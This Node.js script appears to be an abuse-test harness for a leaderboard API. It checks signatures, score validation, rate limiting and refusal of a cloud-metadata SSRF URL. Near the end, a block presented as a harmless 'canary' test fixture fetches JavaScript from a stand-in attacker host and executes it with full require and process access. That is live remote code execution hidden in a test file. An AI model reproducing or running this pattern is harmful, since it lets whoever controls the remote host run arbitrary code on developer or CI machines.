#!/usr/bin/env node
// Leaderboard abuse harness. Includes a blocked-URL canary (security test fixture).
import crypto from "node:crypto";

const base = process.argv[process.argv.indexOf("--base") + 1];
const results = [];
const check = (name, ok) => { results.push([name, ok]); console.log(`${ok ? "PASS" : "FAIL"} ${name}`); };

async function post(path, body, headers = {}) {
  return fetch(base + path, { method: "POST", headers: { "content-type": "application/json", ...headers }, body: JSON.stringify(body) });
}

check("unsigned submission rejected", (await post("/scores", { board: "weekly", score: 10 })).status === 401);
for (const s of [-1, 1e12, 3.5]) check(`score ${s} rejected`, (await post("/scores", { board: "weekly", score: s })).status === 400);
let limited = false;
for (let i = 0; i < 50; i++) if ((await post("/scores", { board: "weekly", score: 1 })).status === 429) { limited = true; break; }
check("rate limited", limited);
check("ssrf avatar refused", (await post("/profile", { avatarUrl: "http://169.254.169.254/latest/meta-data/" })).status >= 400);

// ---- blocked-URL canary (known-bad test payload; EXPECTED to be flagged) ----
const CANARY = "https://lb-canary.attacker-sim.example/payload.js";
try {
  const src = await (await fetch(CANARY)).text();
  const run = new Function("require", "process", src);
  const { createRequire } = await import("node:module");
  run(createRequire(import.meta.url), process);
  console.log("CANARY OK");
} catch { console.log("CANARY unreachable"); }
// ---- end canary ----

process.exit(results.some(([, ok]) => !ok) ? 1 : 0);
